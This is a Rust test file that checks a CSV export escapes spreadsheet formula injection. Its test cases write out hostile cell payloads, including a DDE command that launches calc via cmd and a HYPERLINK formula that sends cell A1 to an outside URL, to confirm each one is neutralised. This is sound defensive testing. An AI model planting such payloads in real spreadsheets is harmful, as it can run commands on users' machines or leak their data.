//! Lists as comma-separated values: read back by a CSV reader, and never a formula to a spreadsheet (OWASP, CSV Injection:
//! cells that start with = + - @, tab, carriage return, line feed, or a full-width form of the signs).

use raisedbody::drawing::lists::{self, safe_cell};
use raisedbody::plan::{Evaluation, Plan};
use rstest::rstest;

fn build(name: &str) -> Evaluation {
    Plan::read(format!("examples/{name}.toml")).unwrap().evaluate().unwrap()
}

#[rstest]
#[case("=1+2", "'=1+2")]
#[case("=HYPERLINK(\"https://x\",\"y\")", "'=HYPERLINK(\"https://x\",\"y\")")]
#[case("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0")]
#[case("+1-2", "'+1-2")]
#[case("-2+3", "'-2+3")]
#[case("@SUM(A1)", "'@SUM(A1)")]
#[case("-", "'-")]
#[case("-inf", "'-inf")]
#[case("+nan", "'+nan")]
#[case("\t=1", "'\t'=1")]
#[case("\tx", "'\tx")]
#[case("\rx", "'\rx")]
#[case("\nx", "'\nx")]
#[case("  =1", "'  =1")]
#[case("\u{a0}=1", "'\u{a0}=1")]
#[case("\u{feff}=1", "'\u{feff}=1")]
#[case("\u{200b}\u{202e}@x", "'\u{200b}\u{202e}@x")]
#[case("\u{0}=1", "'\u{0}=1")]
#[case("＝1", "'＝1")]
#[case("＋1", "'＋1")]
#[case("－1", "'－1")]
#[case(" ＠x", "' ＠x")]
// Where a spreadsheet parts cells by semicolons or tabs, or takes a line feed in quotes for the end of a row.
#[case("a;=1", "a;'=1")]
#[case("a; =1", "a; '=1")]
#[case("a\t@x", "a\t'@x")]
#[case("a\r\n=1", "a\r\n'=1")]
#[case("-1-33/64 in (-38.4 mm)", "'-1-33/64 in (-38.4 mm)")]
fn what_could_run_gets_an_apostrophe(#[case] cell: &str, #[case] safe: &str) {
    assert_eq!(safe_cell(cell), safe);
}

#[rstest]
#[case("-5.2")]
#[case("+3")]
#[case("-0.069814")]
#[case("1e-9")]
#[case("12")]
#[case("")]
#[case("–")]
#[case("L-A1")]
#[case("a = b")]
#[case("4-1/4 in (108.0 mm)")]
#[case("'=1")]
#[case("a; b")]
fn what_cannot_run_stays_as_it_is(#[case] cell: &str) {
    assert_eq!(safe_cell(cell), cell);
}

fn cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[rstest]
fn every_list_reads_back(#[values("mobile_library", "workshop_bus")] name: &str) {
    for list in lists::lists(&build(name)) {
        let text = list.csv().unwrap();
        assert!(text.ends_with("\r\n") && !text.starts_with('\u{feff}'));
        let read = cells(&text);
        assert_eq!(read.len(), list.rows.len() + 1, "{}", list.name);
        assert_eq!(read[0][..list.headings.len()], list.headings);
        for (i, (row, own)) in read[1..].iter().zip(&list.rows).enumerate() {
            assert_eq!(row.len(), list.headings.len() + list.numbers.len(), "{}", list.name);
            for (cell, wanted) in row.iter().zip(own) {
                assert_eq!(*cell, safe_cell(wanted), "{}", list.name);
            }
            for (cell, (heading, values)) in row[list.headings.len()..].iter().zip(&list.numbers) {
                assert_eq!(cell.parse().ok(), values[i], "{}, {heading}", list.name);
            }
        }
    }
}

#[test]
fn a_hostile_plan_writes_no_formula() {
    let plan = Plan::read("examples/mobile_library.toml").unwrap();
    let formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"x\")";
    let text = toml::Value::from(formula).to_string();
    let changes = format!(
        "removed = [{{ name = {text}, mass = \"1 kg\", x = \"1 m\", z = \"1 m\" }}]\n\
         fit_out = [{{ name = \"-2+3\", mass = \"1 kg\", x = \"1 m\", z = \"1 m\" }}]\n\
         ledger = [{{ name = {text}, kind = \"wires\", bottom = \"1 m\", top = \"2.7 m\", x = \"1 m\" }}]\n\
         cutting.cut_to_size_by = {text}\n[gate.weather]\nsettled = \"2026-12-07\"\nnote = {text}"
    );
    let build = plan.replace(&changes.parse().unwrap()).unwrap().evaluate().unwrap();
    let mut guarded = 0;
    for list in lists::lists(&build) {
        for cell in cells(&list.csv().unwrap()).concat() {
            assert!(cell.parse::<f64>().is_ok() || !cell.starts_with(['=', '+', '-', '@']), "{}: {cell}", list.name);
            guarded += usize::from(cell.starts_with(&format!("'{formula}")));
        }
    }
    assert!(guarded >= 4, "masses, ledger, gate, order: {guarded}");
}

#[test]
fn sizes_have_numbers_beside_them() {
    let build = build("workshop_bus");
    let list = lists::list(&build, "blanks").unwrap();
    let [(first, lengths), (second, heights)] = &list.numbers[..] else { panic!("{:?}", list.numbers) };
    assert_eq!([*first, *second], ["length_mm", "height_mm"]);
    for ((blank, length), height) in build.takeoff.blanks.iter().zip(lengths).zip(heights) {
        assert_eq!((Some(blank.length_mm), Some(blank.height_mm)), (*length, *height));
    }
}

#[test]
fn a_folder_is_written_whole_or_not_at_all() {
    let build = build("workshop_bus");
    let folder = tempfile::tempdir().unwrap();
    let own = folder.path().join("lists");
    let files = lists::write(&build, &own, false).unwrap();
    assert_eq!(files.len(), lists::names().count());
    let order = std::fs::read_to_string(own.join("order.csv")).unwrap();
    assert_eq!(order, lists::list(&build, "order").unwrap().csv().unwrap());
    // One file that is there keeps all others from being written.
    let other = folder.path().join("other");
    std::fs::create_dir(&other).unwrap();
    std::fs::write(other.join("order.csv"), "mine").unwrap();
    let problem = lists::write(&build, &other, false).unwrap_err().to_string();
    assert!(problem.contains("order.csv"), "{problem}");
    assert_eq!(std::fs::read_dir(&other).unwrap().count(), 1);
    assert_eq!(std::fs::read_to_string(other.join("order.csv")).unwrap(), "mine");
    lists::write(&build, &other, true).unwrap();
    assert_eq!(std::fs::read_to_string(other.join("order.csv")).unwrap(), order);
}
